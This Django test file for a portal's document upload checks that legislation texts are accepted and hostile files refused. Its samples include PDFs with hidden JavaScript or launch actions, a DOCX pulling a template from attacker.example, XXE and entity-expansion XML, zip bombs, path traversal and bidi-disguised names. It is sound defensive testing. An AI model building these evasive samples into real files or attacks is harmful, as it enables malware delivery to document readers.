"""Uploads: legislation texts are accepted by content; a hostile sample set is refused with a
clear message, and nothing of it is stored."""

import hashlib
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from portal.errors import ApplicationError, PermissionDenied
from responses import services
from responses.models import Attachment

pytestmark = pytest.mark.django_db

QUESTION = "a.1.organized_crime_texts"


def _zip(entries: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


DOCX = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
ODT = _zip({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office:document/>"})


def _pdf() -> bytes:
    from weasyprint import HTML

    return HTML(string="<p>Loi n° 2004-204 du 9 mars 2004</p>").write_pdf()


def _upload(response, corr, name, data):
    return services.attachment_upload(
        response=response, question_code=QUESTION, upload=SimpleUploadedFile(name, data), user=corr
    )


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("loi-2004-204.pdf", None, "pdf"),
        ("code-penal.docx", DOCX, "docx"),
        ("code-penal.odt", ODT, "odt"),
        ("summary.txt", "Résumé de la loi n° 2004-204.\n".encode(), "txt"),
    ],
)
def test_it_accepts_legislation_texts_by_content(response_fra, corr_fra, name, data, kind):
    data = data if data is not None else _pdf()
    attachment = _upload(response_fra, corr_fra, name, data)
    assert attachment.kind == kind
    assert attachment.sha256 == hashlib.sha256(data).hexdigest()
    assert attachment.original_name == name
    with attachment.file.open("rb") as stored:
        assert stored.read() == data
    assert not attachment.file.name.endswith(name)  # the server chose the stored name


HOSTILE = [
    ("tool.exe", b"MZ\x90\x00\x03" + b"\x00" * 100, "Upload a PDF, DOCX, ODT or plain text"),
    ("setup.pdf", b"MZ\x90\x00\x03" + b"\x00" * 100, "Upload a PDF, DOCX, ODT or plain text"),
    ("page.txt", b"<html><body><script>alert(1)</script></body></html>", "Web pages and images"),
    ("image.txt", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "Web pages"),
    ("image.svg", b'<svg xmlns="http://www.w3.org/2000/svg"></svg>', "Upload a PDF, DOCX, ODT"),
    ("law.pdf", b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", "damaged"),
    (
        "law.docx",
        _zip(
            {
                "[Content_Types].xml": b"macroEnabled",
                "word/document.xml": b"x",
                "word/vbaProject.bin": b"\x00",
            }
        ),
        "macros",
    ),
    ("law.exe.pdf", b"%PDF-1.4\n%%EOF", "second, unsafe extension"),
    ("law.pdf", DOCX, "content is DOCX but its name ends in .pdf"),
    (
        "bomb.docx",
        _zip({"[Content_Types].xml": b"x", "word/document.xml": b"\x00" * (60 * 1024 * 1024)}),
        "unreasonable size",
    ),
    ("empty.txt", b"", "empty"),
    ("latin1.txt", "Résumé".encode("latin-1"), "UTF-8"),
]


@pytest.mark.parametrize(("name", "data", "message"), HOSTILE, ids=[h[0] + "-" + h[2][:12] for h in HOSTILE])
def test_it_refuses_hostile_files_with_a_clear_message(response_fra, corr_fra, name, data, message):
    with pytest.raises(ApplicationError) as error:
        _upload(response_fra, corr_fra, name, data)
    assert message in str(error.value.message)
    assert not Attachment.objects.exists()


def test_a_name_with_folders_never_reaches_the_storage(response_fra, corr_fra):
    # Django strips the folders from an uploaded file's name before we see it; the stored
    # name is ours in any case, so '../' can never choose where the file goes.
    attachment = _upload(response_fra, corr_fra, "../../etc/passwd.txt", b"root:x:0:0")
    assert attachment.original_name == "passwd.txt"
    assert attachment.file.name.startswith("attachments/") and ".." not in attachment.file.name


def test_it_refuses_an_oversize_file(response_fra, corr_fra, settings):
    data = b"%PDF-1.4\n" + b"0" * (20 * 1024 * 1024)
    with pytest.raises(ApplicationError, match="larger than 20 MB"):
        _upload(response_fra, corr_fra, "huge.pdf", data)


def test_it_refuses_uploads_to_a_question_without_attachments(response_fra, corr_fra):
    with pytest.raises(ApplicationError, match="does not take attachments"):
        services.attachment_upload(
            response=response_fra,
            question_code="contact.1.authority",
            upload=SimpleUploadedFile("a.txt", b"text"),
            user=corr_fra,
        )


def test_another_state_cannot_upload(response_fra, corr_ken):
    with pytest.raises(PermissionDenied):
        _upload(response_fra, corr_ken, "a.txt", b"text")


# --- PDFs: parsed as a reader parses them ------------------------------------------------


def _raw_pdf(*objects: bytes, previous: bytes = b"", start: int = 1, root: int = 1) -> bytes:
    """A PDF written byte by byte, with a correct cross-reference table, so that the
    spelling of its names is exactly what the test says. With ``previous``, an incremental
    update of it: the new objects and a table pointing back at the old one."""
    out = bytearray(previous or b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=start):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n"
    if not previous:
        out += b"0 1\n0000000000 65535 f \n"
    out += b"%d %d\n" % (start, len(objects))
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = start + len(objects)
    prev = b" /Prev %d" % int(previous.rsplit(b"startxref", 1)[1].split()[0]) if previous else b""
    out += b"trailer\n<< /Size %d /Root %d 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, prev, xref)
    return bytes(out)


PLAIN_OBJECTS = (
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [<< /Type /Annot /Subtype /Link"
    b" /Rect [0 0 10 10] /A << /S /URI /URI (https://legislation.example/) >> >>] >>",
)


def _pikepdf(change) -> bytes:
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(_raw_pdf(*PLAIN_OBJECTS)))
    change(pdf, pikepdf)
    buffer = io.BytesIO()
    # Object streams: the catalog and its actions sit compressed, invisible to a byte search.
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return buffer.getvalue()


def _open_action(action):
    def change(pdf, pikepdf):
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(action(pikepdf)))

    return change


def _page_annotation(annotation):
    def change(pdf, pikepdf):
        pdf.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(annotation(pikepdf))])

    return change


def _names_javascript(pdf, pikepdf):
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), pdf.make_indirect(script)]))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pdf.make_indirect(tree))


def _embedded_file(pdf, pikepdf):
    pdf.attachments["payload.txt"] = pikepdf.AttachedFileSpec(pdf, b"payload")


def _acroform(pdf, pikepdf):
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("<xdp/>"))


HOSTILE_PDFS = {
    "name escapes": _raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S/J#61vaScript /J#53 (app.alert\\(1\\)) >> >>",
        *PLAIN_OBJECTS[1:],
    ),
    "object stream javascript": _pikepdf(
        _open_action(lambda p: {"/S": p.Name.JavaScript, "/JS": p.String("app.alert(1)")})
    ),
    "launch": _pikepdf(_open_action(lambda p: {"/S": p.Name.Launch, "/F": p.String("cmd.exe")})),
    "submit form": _pikepdf(
        _open_action(lambda p: {"/S": p.Name.SubmitForm, "/F": p.String("https://x.example")})
    ),
    "import data": _pikepdf(_open_action(lambda p: {"/S": p.Name.ImportData, "/F": p.String("data.fdf")})),
    "go to remote": _pikepdf(
        _open_action(lambda p: {"/S": p.Name.GoToR, "/F": p.String("other.pdf"), "/D": 0})
    ),
    "go to embedded": _pikepdf(_open_action(lambda p: {"/S": p.Name.GoToE, "/T": p.Dictionary(R=p.Name.C)})),
    "names javascript tree": _pikepdf(_names_javascript),
    "embedded file": _pikepdf(_embedded_file),
    "acroform and xfa": _pikepdf(_acroform),
    "annotation launch": _pikepdf(
        _page_annotation(
            lambda p: {
                "/Type": p.Name.Annot,
                "/Subtype": p.Name.Link,
                "/Rect": [0, 0, 10, 10],
                "/A": p.Dictionary(S=p.Name.Launch, F=p.String("calc.exe")),
            }
        )
    ),
    "annotation file attachment": _pikepdf(
        _page_annotation(
            lambda p: {"/Type": p.Name.Annot, "/Subtype": p.Name.FileAttachment, "/Rect": [0, 0, 9, 9]}
        )
    ),
    "annotation rich media": _pikepdf(
        _page_annotation(
            lambda p: {
                "/Type": p.Name.Annot,
                "/Subtype": p.Name.RichMedia,
                "/Rect": [0, 0, 9, 9],
                "/RichMediaContent": p.Dictionary(),
            }
        )
    ),
    "page additional action": _pikepdf(
        lambda pdf, p: setattr(
            pdf.pages[0].obj, "AA", p.Dictionary(O=p.Dictionary(S=p.Name.JavaScript, JS=p.String("1")))
        )
    ),
    "incremental update": _raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        previous=_raw_pdf(*PLAIN_OBJECTS),
        start=4,
        root=4,
    ),
}


@pytest.mark.parametrize("data", HOSTILE_PDFS.values(), ids=HOSTILE_PDFS.keys())
def test_it_refuses_pdfs_with_active_content_wherever_it_sits(response_fra, corr_fra, data):
    with pytest.raises(ApplicationError, match="scripts, forms, actions, attachments or multimedia"):
        _upload(response_fra, corr_fra, "law.pdf", data)
    assert not Attachment.objects.exists()


def test_the_disguised_pdfs_hide_from_a_byte_search():
    # What made the old check pass them: no readable /JavaScript or /JS in the bytes.
    for name in ("name escapes", "object stream javascript", "names javascript tree"):
        assert not re.search(rb"/(JavaScript|JS)\b", HOSTILE_PDFS[name]), name


@pytest.mark.parametrize(
    "data",
    [
        _raw_pdf(*PLAIN_OBJECTS),
        _raw_pdf(
            *PLAIN_OBJECTS[:2], b"<< /Type /Page /Parent 2 0 R >>", previous=_raw_pdf(*PLAIN_OBJECTS), start=3
        ),
    ],
    ids=["with a web link", "with a harmless update"],
)
def test_it_accepts_a_plain_pdf(response_fra, corr_fra, data):
    assert _upload(response_fra, corr_fra, "law.pdf", data).kind == "pdf"


@pytest.mark.parametrize("data", [b"%PDF-1.7\nnot a pdf at all", b"%PDF-1.7\n" + b"\x00" * 64])
def test_it_refuses_a_pdf_that_does_not_parse(response_fra, corr_fra, data):
    with pytest.raises(ApplicationError, match="damaged and cannot be read"):
        _upload(response_fra, corr_fra, "law.pdf", data)
    assert not Attachment.objects.exists()


# --- Office documents: every relationship of every part ---------------------------------

RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _rels(*relationships: str) -> bytes:
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}">{"".join(relationships)}</Relationships>'
    ).encode()


def _external(kind: str, target: str, mode: str = "External") -> bytes:
    return _rels(
        f'<Relationship Id="rId9" Type="{OFFICE_REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    )


def _docx(parts: dict[str, bytes] | None = None) -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "_rels/.rels": _rels(
                f'<Relationship Id="r1" Type="{OFFICE_REL}/officeDocument" Target="word/document.xml"/>'
            ),
            "word/document.xml": b"<w:document/>",
            **(parts or {}),
        }
    )


REMOTE_TEMPLATE = _external("attachedTemplate", "https://attacker.example/macros.dotm")
HOSTILE_OFFICE = {
    "attached template": ("law.docx", _docx({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE})),
    "external image": (
        "law.docx",
        _docx({"word/_rels/document.xml.rels": _external("image", "\\\\smb.example\\x.png")}),
    ),
    "external mode in other case": (
        "law.docx",
        _docx({"word/_rels/document.xml.rels": _external("oleObject", "file:///c:/x", " external ")}),
    ),
    "hyperlink to a file": (
        "law.docx",
        _docx({"word/_rels/document.xml.rels": _external("hyperlink", "file:///c:/cmd.exe")}),
    ),
}


@pytest.mark.parametrize(("name", "data"), HOSTILE_OFFICE.values(), ids=HOSTILE_OFFICE.keys())
def test_it_refuses_office_documents_that_fetch_outside_parts(response_fra, corr_fra, name, data):
    with pytest.raises(ApplicationError, match="outside template or file"):
        _upload(response_fra, corr_fra, name, data)
    assert not Attachment.objects.exists()


def test_it_refuses_a_remote_template_in_any_ooxml_package(response_fra, corr_fra):
    # A spreadsheet is refused for its relationship before it is refused for its kind.
    workbook = _zip({"[Content_Types].xml": b"<Types/>", "xl/_rels/workbook.xml.rels": REMOTE_TEMPLATE})
    with pytest.raises(ApplicationError, match="outside template or file"):
        _upload(response_fra, corr_fra, "law.docx", workbook)


def test_it_accepts_a_document_with_web_links(response_fra, corr_fra):
    data = _docx({"word/_rels/document.xml.rels": _external("hyperlink", "https://legislation.example/")})
    assert _upload(response_fra, corr_fra, "law.docx", data).kind == "docx"


@pytest.mark.parametrize(
    "rels",
    [
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>'
        b'<Relationships xmlns="' + RELS_NS.encode() + b'">&b;</Relationships>',
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Relationships>&x;</Relationships>',
        b"<Relationships><not-closed>",
    ],
    ids=["entity expansion", "external entity", "broken xml"],
)
def test_it_reads_relationships_without_entities(response_fra, corr_fra, rels):
    with pytest.raises(ApplicationError, match="damaged and cannot be read"):
        _upload(response_fra, corr_fra, "law.docx", _docx({"word/_rels/document.xml.rels": rels}))


@pytest.mark.parametrize(
    "extra",
    [{"word/vbaProject.bin": b"\x00"}, {"xl/vbaProject.bin": b"\x00"}],
    ids=["word macros", "macros under another folder"],
)
def test_it_refuses_macro_enabled_content(response_fra, corr_fra, extra):
    with pytest.raises(ApplicationError, match="macros"):
        _upload(
            response_fra,
            corr_fra,
            "law.docx",
            _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"x", **extra}),
        )


def test_it_refuses_a_zip_whose_directory_declares_a_bomb(response_fra, corr_fra):
    data = bytearray(_docx())
    # Raise one part's declared size in the central directory: it is read before anything is unpacked.
    directory = data.rfind(b"PK\x01\x02")
    data[directory + 24 : directory + 28] = (300 * 1024 * 1024).to_bytes(4, "little")
    with pytest.raises(ApplicationError, match="unreasonable size"):
        _upload(response_fra, corr_fra, "law.docx", bytes(data))


def test_a_file_name_loses_its_bidi_controls(response_fra, corr_fra):
    attachment = _upload(response_fra, corr_fra, "law\u202e\u2066-2004\u2069.txt", b"text")
    assert attachment.original_name == "law-2004.txt"


def test_a_bidi_override_cannot_disguise_the_extension(response_fra, corr_fra):
    # Shown as "reportexe.txt" by a bidi-aware display, it is a .exe.
    with pytest.raises(ApplicationError, match="Upload a PDF, DOCX, ODT or plain text"):
        _upload(response_fra, corr_fra, "report\u202etxt.exe", b"MZ")
